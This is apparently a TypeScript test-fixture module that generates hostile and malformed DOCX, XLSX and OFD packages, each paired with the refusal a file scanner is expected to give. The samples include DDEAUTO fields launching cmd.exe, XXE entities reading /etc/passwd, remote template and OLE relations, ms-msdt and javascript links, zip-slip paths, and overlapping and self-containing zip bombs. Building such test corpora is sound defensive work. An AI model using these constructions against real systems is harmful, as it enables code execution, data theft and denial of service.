import { crc32, deflateRawSync } from 'node:zlib';
import { zipOf, type ZipEntry } from '../zip';
import { chance } from '../chance';
import { bytes, EICAR, type BadFile } from './bad-file';
import { pdfOf } from './pdfs';

const CONTENT_TYPES = { name: '[Content_Types].xml', content: '<Types xmlns="x"/>' };
const TEXT = { name: 'word/document.xml', content: '<w:document xmlns:w="w"/>' };

const docxOf = (...more: ZipEntry[]): Buffer =>
  zipOf([CONTENT_TYPES, { name: '_rels/.rels', content: '<Relationships/>' }, TEXT, ...more]);
const textOf = (content: string | Buffer): Buffer =>
  zipOf([CONTENT_TYPES, { name: '_rels/.rels', content: '<Relationships/>' }, { ...TEXT, content }]);
const xlsxOf = (...more: ZipEntry[]): Buffer =>
  zipOf([CONTENT_TYPES, { name: 'xl/workbook.xml', content: '<workbook/>' }, ...more]);
const ofdOf = (root: string, ...more: ZipEntry[]): Buffer =>
  zipOf([{ name: 'OFD.xml', content: `<ofd:OFD xmlns:ofd="o"><ofd:DocRoot>${root}</ofd:DocRoot></ofd:OFD>` }, ...more]);

const docx = (what: string, refusal: BadFile['refusal'], make: BadFile['make']): BadFile => ({
  what: `DOCX: ${what}`,
  name: '申请书.docx',
  refusal,
  make,
});
const xlsx = (what: string, refusal: BadFile['refusal'], make: BadFile['make']): BadFile => ({
  what: `XLSX: ${what}`,
  name: '名单.xlsx',
  refusal,
  make,
});
const ofd = (what: string, refusal: BadFile['refusal'], make: BadFile['make']): BadFile => ({
  what: `OFD: ${what}`,
  name: '发票.ofd',
  refusal,
  make,
});

const relation = (type: string, target: string, mode = ' TargetMode="External"'): ZipEntry => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="a" Type="http://x/${type}" Target="${target}"${mode}/></Relationships>`,
});
const field = (instruction: string): string =>
  `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/>${[...instruction].map((letter) => `<w:instrText>${letter}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/></w:document>`;

/** What another part is to one, and where it lies. */
const RELATIONS: readonly (readonly [string, string, string?])[] = [
  ['attachedTemplate', 'https://host.example/a.dotm'],
  ['attachedTemplate', 'file://host/share/a.dotm'],
  ['attachedTemplate', '\\\\host\\share\\a.dotm'],
  ['image', 'https://host.example/beacon.png'],
  ['oleObject', 'https://host.example/a'],
  ['oleObject', 'objects/a.bin', ''],
  ['frame', 'https://host.example/a'],
  ['subDocument', 'https://host.example/a'],
  ['aFChunk', 'chunk.dat', ''],
  ['vbaProject', 'media/a.png', ''],
  ['mailMergeSource', 'file:///C:/a.csv'],
  ['package', 'a.dat', ''],
  ['control', 'a.xml', ''],
  ['hyperlink', 'javascript:alert(1)'],
  ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
  ['hyperlink', 'vbscript:a'],
  ['image', 'https://host.example/a.png', ''],
  ['attachedTemplate', 'https&#58;//host.example/a.dotm', " TargetMode='Exter&#110;al'"],
];

const PARTS = {
  docx: [
    'word/vbaProject.bin',
    'word/vbaData.bin',
    'word/activeX/activeX1.bin',
    'word/embeddings/oleObject1.bin',
    'word/run.EXE',
    'word/a.js',
    'a.zip',
    'word/a.svg',
    'word/a.html',
    'customUI/customUI.xml',
    'word/webextensions/taskpanes.xml',
    'WORD/VBAPROJECT.BIN',
  ],
  xlsx: [
    'xl/externalLinks/externalLink1.xml',
    'xl/macrosheets/sheet1.xml',
    'xl/dialogsheets/sheet1.xml',
    'xl/connections.xml',
    'xl/queryTables/queryTable1.xml',
    'xl/vbaProject.bin',
  ],
};

/** First bytes that betray a part, whatever it is called. */
const STARTS = [
  'MZ\x90\0',
  '\x7fELF',
  'PK\x03\x04',
  'Rar!\x1a\x07',
  '\x1f\x8b\x08',
  '\xd0\xcf\x11\xe0',
  '#!/bin/sh',
  '{\\rtf1',
];

const FIELDS = [
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  ' dde excel a b',
  'INCLUDETEXT "https://host.example/a"',
  'LINK Excel.Sheet.12 "https://host.example/a"',
  'DATABASE \\d "c:\\\\a"',
];

export const BAD_PACKAGES: readonly BadFile[] = [
  ...PARTS.docx.map((name) => docx(`with ${name}`, 'fileActive', () => docxOf({ name, content: 'x' }))),
  ...PARTS.xlsx.map((name) => xlsx(`with ${name}`, 'fileActive', () => xlsxOf({ name, content: '<x/>' }))),
  ...STARTS.map((start) =>
    docx(`a picture that begins as ${JSON.stringify(start)}`, 'fileActive', () =>
      docxOf({ name: 'word/media/image1.png', content: bytes(`${start}${'x'.repeat(50)}`) }),
    ),
  ),
  ...RELATIONS.map(([type, target, mode]) =>
    docx(`${type} at ${target}${mode === '' ? ' within' : ''}`, 'fileActive', () =>
      docxOf(relation(type, target, mode)),
    ),
  ),
  docx('a template elsewhere, in UTF-16', 'fileActive', () => {
    const { name, content } = relation('attachedTemplate', 'https://host.example/a.dotm');
    return docxOf({ name, content: Buffer.from(`\ufeff${content as string}`, 'utf16le') });
  }),
  docx('a template elsewhere, in UTF-7', 'fileDamaged', () =>
    docxOf({
      name: 'word/_rels/a.xml.rels',
      content: '<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationships/+AD4-',
    }),
  ),
  ...FIELDS.map((instruction) => docx(`field ${instruction}`, 'fileActive', () => textOf(field(instruction)))),
  docx('a simple field', 'fileActive', () => textOf('<w:p xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO a b"/></w:p>')),
  docx('a field in a part of another name', 'fileActive', () =>
    docxOf({ name: 'word/main.dat', content: field('DDE a b') }),
  ),
  docx('a chunk of another format', 'fileActive', () => textOf('<w:altChunk xmlns:w="w" r="a"/>')),
  docx('macros by the type of its text', 'fileTypeUnknown', () =>
    zipOf([
      {
        name: '[Content_Types].xml',
        content:
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
      TEXT,
    ]),
  ),
  docx('macros by content type', 'fileActive', () =>
    zipOf([
      {
        name: '[Content_Types].xml',
        content: '<Types><Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      },
      TEXT,
    ]),
  ),
  docx('an external entity', 'fileActive', () =>
    textOf('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
  ),
  docx('entities that multiply', 'fileActive', () =>
    textOf('<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'),
  ),
  xlsx('an external entity in a sheet', 'fileActive', () =>
    xlsxOf({
      name: 'xl/worksheets/sheet1.xml',
      content: '<!DOCTYPE d [<!ENTITY x SYSTEM "http://host.example">]><d/>',
    }),
  ),
  docx('tags in each other without end', 'fileBomb', () => textOf('<a>'.repeat(5_000))),
  docx('attributes without end', 'fileBomb', () =>
    textOf(`<a ${Array.from({ length: 3_000 }, (_, index) => `b${index}="${(index * 7_919) % 10_007}"`).join(' ')}/>`),
  ),
  docx('no XML', 'fileDamaged', () => textOf('<w:document><w:p></w:document>')),
  docx('encrypted part', 'fileEncrypted', () => docxOf({ name: 'x.xml', content: 'x', encrypted: true })),
  docx('the same name twice', 'fileAmbiguous', () => docxOf(TEXT)),
  docx('the same name in large letters', 'fileAmbiguous', () => docxOf({ ...TEXT, name: 'WORD/Document.XML' })),
  ...['../../outside.xml', '/etc/passwd', 'a/../../b', 'C:/windows/a', '..\\a.xml', 'word\\..\\..\\a'].map((name) =>
    docx(`part ${name}`, 'fileDamaged', () => docxOf({ name, content: 'x' })),
  ),
  docx('a link that leads out', 'fileDamaged', () => linked()),
  docx('less than it says', 'fileDamaged', () =>
    docxOf({ name: 'x.xml', content: 'x'.repeat(50), claimedBytes: 5_000 }),
  ),
  docx('more than it says', 'fileDamaged', () =>
    docxOf({ name: 'x.xml', content: 'x'.repeat(5_000), claimedBytes: 10 }),
  ),
  docx('a wrong sum', 'fileDamaged', () => {
    const file = docxOf();
    const at = file.lastIndexOf('PK\x01\x02') + 16;
    file.writeUInt32LE((file.readUInt32LE(at) ^ 1) >>> 0, at);
    return file;
  }),
  docx('20 MiB of nothing', 'fileBomb', () => docxOf({ name: 'x.xml', content: Buffer.alloc(20 * 1024 * 1024) })),
  docx('4 GiB by its directory', 'fileBomb', () => docxOf({ name: 'x.xml', content: 'x', claimedBytes: 0xfffffff0 })),
  docx('5,100 parts', 'fileBomb', () =>
    docxOf(...Array.from({ length: 5_100 }, (_, index) => ({ name: `p${index}.xml`, content: 'x' }))),
  ),
  docx('parts that share their bytes', 'fileBomb', () => overlapping(1)),
  docx('forty parts that share their bytes', 'fileBomb', () => overlapping(40)),
  docx('a part that is the file itself', 'fileAmbiguous', () => quine()),
  docx('an archive in an archive in an archive', 'fileActive', () => {
    let inner = zipOf([{ name: 'a', content: Buffer.alloc(1024 * 1024) }]);
    for (let depth = 0; depth < 5; depth += 1) inner = zipOf([{ name: 'a.dat', content: inner }]);
    return docxOf({ name: 'word/media/image1.emf', content: inner });
  }),
  docx('another name in its own header', 'fileAmbiguous', () => {
    const file = docxOf({ name: 'word/media/a.png', content: 'x' });
    file.write('word/media/b.png', file.indexOf('word/media/a.png'), 'latin1');
    return file;
  }),
  docx('something between its parts', 'fileAmbiguous', () => gap(docxOf(), bytes('MZ'.repeat(500)))),
  docx('a remark behind it', 'fileAmbiguous', () => {
    const file = Buffer.concat([docxOf(), bytes('remark')]);
    file.writeUInt16LE(6, file.length - 8);
    return file;
  }),
  docx('a PDF in its head', 'fileAmbiguous', () =>
    zipOf([{ name: 'a.txt', content: 'x', stored: bytes('%PDF-1.7\n1 0 obj') }, CONTENT_TYPES, TEXT]),
  ),
  docx('cut off', 'fileDamaged', () => docxOf().subarray(0, -10)),
  docx('no text', 'fileTypeUnknown', () => zipOf([CONTENT_TYPES])),
  xlsx('no book', 'fileTypeUnknown', () => zipOf([CONTENT_TYPES])),
  docx('only PKs', 'fileDamaged', () => bytes(`PK\x03\x04${'PK\x05\x06'.repeat(40)}`)),
  docx('a program before it', 'fileTypeUnknown', () => Buffer.concat([bytes('MZ'), docxOf()])),
  docx('a PDF by another name', 'fileNameUnfit', () => pdfOf()),
  ...['../../../etc/passwd', 'Doc_0/../../a.xml', 'http://host.example/Document.xml'].map((root) =>
    ofd(`root at ${root}`, 'fileDamaged', () => ofdOf(root)),
  ),
  ofd('part ../../a', 'fileDamaged', () => ofdOf('Doc_0/Document.xml', { name: '../../a.xml', content: 'x' })),
  ofd('an attached program', 'fileActive', () =>
    ofdOf('Doc_0/Document.xml', { name: 'Doc_0/Attachs/a.exe', content: 'x' }),
  ),
  ofd('an attached program by another name', 'fileActive', () =>
    ofdOf('Doc_0/Document.xml', { name: 'Doc_0/Attachs/a.png', content: bytes('MZ\x90\0') }),
  ),
  ofd('an external entity', 'fileActive', () =>
    zipOf([{ name: 'OFD.xml', content: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }]),
  ),
  ofd('an external entity in a page', 'fileActive', () =>
    ofdOf('Doc_0/Document.xml', { name: 'Doc_0/Content.xml', content: '<!DOCTYPE a [<!ENTITY x SYSTEM "u">]><a/>' }),
  ),
  ofd('nothing of it', 'fileTypeUnknown', () => zipOf([{ name: 'a.txt', content: EICAR() }])),
  ...spoiled(),
];

/** A part that is a link where links are known. */
function linked(): Buffer {
  const file = docxOf({ name: 'word/a', content: '../../../etc/passwd' });
  file.writeUInt32LE((0o120777 << 16) >>> 0, file.lastIndexOf('PK\x01\x02') + 38);
  return file;
}

/** A part that lies within another as it lies there, header and all, and so many more within that one. */
function overlapping(times: number): Buffer {
  const content = bytes('0123456789'.repeat(20_000));
  let inner = content;
  const headers: Buffer[] = [];
  for (let depth = 0; depth < times; depth += 1) {
    const file = zipOf([{ name: `word/p${depth}.dat`, content: '', stored: inner }]);
    const directory = file.readUInt32LE(file.length - 6);
    inner = Buffer.concat([bytes('0123456789'), file.subarray(0, directory)]);
    headers.push(file.subarray(directory, -22));
  }
  const file = docxOf({ name: 'word/outer.dat', content: '', stored: inner });
  let at = file.indexOf('word/outer.dat') + 'word/outer.dat'.length;
  for (const header of headers.reverse()) {
    header.writeUInt32LE(at + 10, 42);
    at += 10 + 30 + header.length - 46;
  }
  const end = file.subarray(-22);
  const added = Buffer.concat(headers);
  end.writeUInt16LE(end.readUInt16LE(8) + times, 8);
  end.writeUInt16LE(end.readUInt16LE(10) + times, 10);
  end.writeUInt32LE(end.readUInt32LE(12) + added.length, 12);
  return Buffer.concat([file.subarray(0, -22), added, end]);
}

/** An entry whose content is the package from its very beginning, as in archives that hold themselves. */
function quine(): Buffer {
  const inner = docxOf();
  const name = 'word/self.dat';
  const raw = Buffer.alloc(26);
  raw.writeUInt16LE(20, 0);
  raw.writeUInt16LE(0x800, 2);
  const directory = inner.readUInt32LE(inner.length - 6);
  raw.writeUInt32LE(crc32(inner.subarray(0, directory)) >>> 0, 10);
  raw.writeUInt32LE(directory, 14);
  raw.writeUInt32LE(directory, 18);
  raw.writeUInt16LE(name.length, 22);
  const rest = Buffer.alloc(14);
  // Its header is the first one of the file, so that its data begin there and reach over all others.
  rest.writeUInt32LE(0, 10);
  const entry = Buffer.concat([bytes('PK\x01\x02\x14\x00'), raw, rest, bytes(name)]);
  const end = Buffer.from(inner.subarray(inner.length - 22));
  end.writeUInt16LE(end.readUInt16LE(8) + 1, 8);
  end.writeUInt16LE(end.readUInt16LE(10) + 1, 10);
  end.writeUInt32LE(end.readUInt32LE(12) + entry.length, 12);
  return Buffer.concat([inner.subarray(0, inner.length - 22), entry, end]);
}

/** Something between the last part and the directory, which no directory names. */
function gap(file: Buffer, hidden: Buffer): Buffer {
  const directory = file.readUInt32LE(file.length - 6);
  const moved = Buffer.from(file.subarray(directory));
  moved.writeUInt32LE(directory + hidden.length, moved.length - 6);
  return Buffer.concat([file.subarray(0, directory), hidden, moved]);
}

/** Packed data in which chance has changed a byte. */
function spoiled(): BadFile[] {
  const random = chance(7);
  return Array.from({ length: 6 }, (_, index) => {
    const share = random();
    return docx(`a changed byte, ${index + 1}`, 'fileDamaged', () => {
      const content = bytes(
        Array.from({ length: 3_000 }, (__, at) => String.fromCharCode(97 + ((at * 31) % 23))).join(''),
      );
      const file = docxOf({ name: 'word/media/a.bin', content });
      const from = file.indexOf('word/media/a.bin') + 16;
      const size = deflateRawSync(content).length;
      const at = from + 4 + Math.floor(share * (size - 8));
      file.writeUInt8(file.readUInt8(at) ^ 0x55, at);
      return file;
    });
  });
}
